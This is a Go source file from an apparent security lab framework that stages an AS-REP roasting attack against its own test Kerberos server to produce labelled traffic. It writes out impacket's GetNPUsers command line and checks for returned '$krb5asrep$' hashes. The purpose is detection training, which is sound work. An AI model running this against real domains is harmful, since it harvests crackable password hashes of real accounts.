// Package asreproast is an intruder who asks for what accounts without
// pre-authentication give away.
package asreproast

import (
	"context"
	_ "embed"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"tyto/lab"
	"tyto/lab/ad"
	"tyto/lab/label"
)

// Scenario asks for a ticket of each of many users, without a password.
var Scenario = lab.Scenario{
	Name:       "asrep-roast",
	Doc:        "An intruder asks Kerberos for tickets of many users without a password; accounts that need no pre-authentication answer with something to guess the password by. Teaches many ticket requests that are refused.",
	Labels:     []label.Label{label.CredentialDump},
	Techniques: []string{"T1558.004"},
	Twin:       "ad-logon",
	Hosts:      []string{"client", "kdc"},
	Variants: []lab.Variant{
		{Name: "getnpusers-mit", Needs: ad.KDCNeeds("py:impacket", getNPUsers+"@python3-impacket")},
		{Name: "python-mit", Needs: ad.KDCNeeds("py:impacket")},
	},
	Params: []lab.Param{
		ad.Realm, ad.People, ad.Kerberos,
		{Name: "users", Doc: "names that are tried; some are no accounts", Values: []string{"6", "15", "40"}},
		{Name: "open", Doc: "accounts among them that need no pre-authentication", Values: []string{"1", "2", "4"}},
		{Name: "types", Doc: "encryption that is asked for; always rc4 with getnpusers", Values: []string{"rc4", "aes"}},
		{Name: "pause", Doc: "between requests in seconds, about; none with getnpusers", Values: []string{"0", "0.3", "2"}},
	},
	Limit: 5 * time.Minute,
	Run:   run,
}

// getNPUsers is impacket's program.
const getNPUsers = "/usr/share/doc/python3-impacket/examples/GetNPUsers.py"

//go:embed roast.py
var program string

func run(ctx context.Context, r *lab.Run) error {
	open := r.ParamInt("open")
	own := strings.HasPrefix(r.Variant(), "python")
	if !own {
		r.SetParam("kerberos", "tcp")
		r.SetParam("types", "rc4")
		r.SetParam("pause", "0")
	}
	r.Note("the server is MIT's and has no directory: Samba's asks for pre-authentication whatever the account says")
	server, client := r.Host("kdc"), r.Host("client")
	k, err := ad.StartKDC(ctx, r, server, r.ParamInt("people"), open)
	if err != nil {
		return err
	}
	if err := ad.Libraries(client); err != nil {
		return err
	}
	r.Installed(client, "py:impacket")
	names := names(k, open, r)
	var c lab.Command
	if own {
		work, err := json.Marshal(map[string]any{
			"server": server.Addr(), "realm": k.Realm, "users": names, "types": r.Param("types"), "udp": r.Param("kerberos") == "udp", "pause": r.Param("pause"),
		})
		if err != nil {
			return err
		}
		if c, err = ad.Python(r, client, program, nil, string(work)); err != nil {
			return err
		}
	} else {
		if err := client.Write("users", strings.Join(names, "\n")+"\n", 0o644); err != nil {
			return err
		}
		c.Args = []string{"/usr/bin/python3", getNPUsers, strings.ToLower(k.Realm) + "/", "-no-pass", "-usersfile", "users", "-dc-ip", server.Addr().String()}
	}
	p, err := client.Start(ctx, c)
	if err != nil {
		return err
	}
	sel := lab.Of(p).And(lab.Service(server, r.Param("kerberos"), 88))
	r.Label(sel, label.CredentialDump)
	if err := p.Wait(ctx); err != nil {
		return err
	}
	r.Span(sel, p.Started(), r.Now(), label.StateProbe, fmt.Sprintf("%d names, of which %d need no pre-authentication", len(names), open))
	if got := strings.Count(p.Output(), "$krb5asrep$"); got != open {
		return fmt.Errorf("%d accounts answered, want %d\n%s", got, open, p.Output())
	}
	return nil
}

// names draws whom to try: the open accounts, others, and some that are none.
func names(k *ad.KDC, open int, r *lab.Run) (names []string) {
	for _, u := range k.Users[:open] {
		names = append(names, u.Name)
	}
	for len(names) < max(open+2, r.ParamInt("users")) {
		if r.Rand().IntN(4) == 0 {
			names = append(names, []string{"test", "backup", "scanner", "guest", "sql"}[r.Rand().IntN(5)]+fmt.Sprint(r.Rand().IntN(100)))
			continue
		}
		names = append(names, k.Users[open+r.Rand().IntN(len(k.Users)-open)].Name)
	}
	r.Rand().Shuffle(len(names), func(i, j int) { names[i], names[j] = names[j], names[i] })
	return names
}
